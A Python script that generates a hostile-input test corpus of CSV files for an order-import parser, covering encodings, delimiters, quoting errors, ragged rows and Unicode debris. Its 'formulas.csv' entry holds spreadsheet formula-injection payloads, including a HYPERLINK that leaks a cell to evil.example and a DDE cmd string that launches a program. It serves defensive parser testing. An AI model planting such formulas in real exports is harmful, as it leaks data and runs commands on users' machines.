"""Write the hostile-input corpus: python tests/data/input/make_corpus.py

The files are committed byte for byte (see .gitattributes: no line-end or
encoding conversion); tests/test_hostile_input.py checks they still match this
script and asserts every row of every file. Each entry says what it imitates.
"""

from __future__ import annotations

import codecs
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEADER = "order_no,warehouse_id,cancel_reason"


def crlf(*lines: str) -> str:
    return "".join(line + "\r\n" for line in lines)


def lf(*lines: str) -> str:
    return "".join(line + "\n" for line in lines)


CORPUS: dict[str, bytes] = {
    # Excel "CSV UTF-8": a BOM and CRLF; text typed in Indonesian, an emoji.
    "utf8-bom-crlf.csv": codecs.BOM_UTF8
    + crlf(
        HEADER,
        "ORD-001,WH-TGR04,Pembeli membatalkan pesanan",
        "ORD-002,WH-TGR04,Café tutup ☕",
    ).encode("utf-8"),
    # A Windows ERP script writing cp1252: é, curly quotes, and one byte cp1252
    # leaves undefined (0x81) inside an order number.
    "cp1252.csv": lf(HEADER, "ORD-101,WH-TGR04,Cliente cancel\xf3 \x93pedido\x94").encode("latin-1")
    + b"ORD-1\x8102,WH-TGR04,r\n"
    + lf("ORD-103,WH-TGR04,Stok habis").encode("ascii"),
    # Excel "Unicode text": UTF-16 LE with a BOM, tab-delimited, CRLF.
    "utf16le-excel.txt": codecs.BOM_UTF16_LE
    + crlf(
        "order_no\twarehouse_id\tcancel_reason",
        "ORD-201\tWH-TGR04\tPesanan dibatalkan, stok habis",
        "ORD-202\tWH-SBY02\tDésolé",
    ).encode("utf-16-le"),
    "utf16be.csv": codecs.BOM_UTF16_BE
    + lf(HEADER, "ORD-211,WH-TGR04,Ünïcödé reason").encode("utf-16-be"),
    # Delimiters other than a comma, each with a comma inside a value.
    "semicolon.csv": lf(
        "order_no;warehouse_id;cancel_reason", "ORD-221;WH-TGR04;Stok habis, maaf"
    ).encode(),
    "tab.tsv": lf(
        "order_no\twarehouse_id\tcancel_reason", "ORD-222\tWH-TGR04\tOut, sorry"
    ).encode(),
    "pipe.csv": lf("order_no|warehouse_id|cancel_reason", "ORD-223|WH-TGR04|Out, sorry").encode(),
    # Quoting as spreadsheets write it, and as people type it.
    "quoting.csv": crlf(
        "order_no,warehouse_id,cancel_reason,buyer_note",
        '"ORD-301","WH-TGR04","Out of stock, buyer asked",plain',
        'ORD-302,WH-TGR04,"He said ""cancel"" twice",x',
        'ORD-303,WH-TGR04,"Line one\r\nline two","a note\nover, two lines"',
        'ORD-304,WH-TGR04,5" screen cracked,x',
        '"ORD-305"x,WH-TGR04,r,x',
        '"",WH-TGR04,r,x',
    ).encode(),
    # Old Mac line ends (\r only), which some ERP exports still use.
    "cr-only.csv": (HEADER + "\rORD-311,WH-TGR04,r\rORD-312,WH-TGR04,r\r").encode(),
    # Blank lines, whitespace-only lines and delimiter-only lines are not rows.
    "blank-lines.csv": lf(
        HEADER,
        "",
        "ORD-321,WH-TGR04,r",
        "   ",
        ",,",
        "",
        "ORD-322,WH-TGR04,r",
        "",
        "",
    ).encode(),
    # Rows with too many or too few fields; the first data row is the long one.
    "ragged.csv": lf(
        "order_no,warehouse_id,cancel_reason,note",
        "ORD-331,WH-TGR04,r,note,extra",
        "ORD-332,WH-TGR04,r,ok",
        "ORD-333,WH-TGR04,r",
        "ORD-334,WH-TGR04,r,note,",
        '"ORD-335,WH-TGR04,r,note"',
        "ORD-336,WH-TGR04,Buyer said",
        "no thanks,note",
        "ORD-338,WH-TGR04,r,",
        "ORD-339,WH-TGR04,r,ok",
    ).encode(),
    # Excel's trailing delimiter: on the header (a nameless last column) and on
    # some rows only.
    "trailing-delimiter.csv": crlf(
        HEADER + ",",
        "ORD-341,WH-TGR04,r,",
        "ORD-342,WH-TGR04,r",
        "ORD-343,WH-TGR04,r,stray value",
    ).encode(),
    "header-only.csv": crlf(HEADER).encode(),
    "empty.csv": b"",
    # Saved as .xlsx and renamed .csv; and something binary.
    "workbook.csv": b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml",
    "binary.csv": bytes(range(256)) * 4,
    "duplicate-header.csv": lf(HEADER + ",order_no", "ORD-351,WH-TGR04,r,ORD-999").encode(),
    "duplicate-other-header.csv": lf(HEADER + ",note,Note", "ORD-352,WH-TGR04,r,a,b").encode(),
    "blank-header.csv": lf("order_no,,warehouse_id,cancel_reason", "ORD-353,x,WH-TGR04,r").encode(),
    "no-header-names.csv": lf(",,", "ORD-354,WH-TGR04,r").encode(),
    "header-unclosed-quote.csv": lf('"order_no,warehouse_id,cancel_reason', "A,B,C").encode(),
    # Values: copy-and-paste debris, control characters, spreadsheet damage, Unicode.
    "values.csv": lf(
        HEADER,
        " ORD-401\u00a0,WH-TGR04\u00a0,r",
        "\u200bORD-402\u200b,\ufeffWH-TGR04,r",
        "ORD-\u200b403,WH-TGR04,r",
        "ORD-404\x07,WH-TGR04,r",
        "ORD-405,WH-TGR04,red \x1b[31malert",
        "1.23457E+14,WH-TGR04,r",
        '"1,23457E+14",WH-TGR04,r',
        "Cafe\u0301-408,WH-TGR04,r",
        "e\u0301" * 50 + ",WH-TGR04,r",
        "ORD\u202e-410,WH-TGR04,r",
        "ORD-411\ufffd,WH-TGR04,r",
        '"ORD-412","WH-TGR04","Line\tone\nline two"',
        "ORD-401,WH-TGR04,again",
        "ORD-414,WH-TGR04,\u200b\u00a0",
        "12345678901234,WH-TGR04,r",
    ).encode(),
    # Text that a spreadsheet would run as a formula, in every place it can hide.
    "formulas.csv": crlf(
        "order_no,warehouse_id,cancel_reason,=buyer_note",
        'ORD-501,WH-TGR04,r,"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
        "ORD-502,WH-TGR04,r,+6281234567890",
        "ORD-503,WH-TGR04,r,-5",
        "ORD-504,WH-TGR04,r,@SUM(A1:A9)",
        'ORD-505,WH-TGR04,r,"\t=1+1"',
        'ORD-506,WH-TGR04,r,"\r=1+1"',
        "ORD-507,WH-TGR04,r,\uff1d1+1",
        "ORD-508,WH-TGR04,r,\uff0bcmd",
        "ORD-509,WH-TGR04,r,\uff0d1",
        "ORD-510,WH-TGR04,r,\uff20SUM(A1)",
        "\"=cmd|' /C calc'!A0\",WH-TGR04,r,x",
        "ORD-512,WH-TGR04,=1+1,safe",
    ).encode(),
    # A truncated export: a quote that never closes.
    "unclosed-quote.csv": lf(
        HEADER,
        "ORD-601,WH-TGR04,r",
        'ORD-602,WH-TGR04,"reason that never ends',
        "ORD-603,WH-TGR04,r",
        "",
        "ORD-604,WH-TGR04,r",
    ).encode(),
}


def main() -> None:
    for name, data in CORPUS.items():
        (HERE / name).write_bytes(data)


if __name__ == "__main__":
    main()
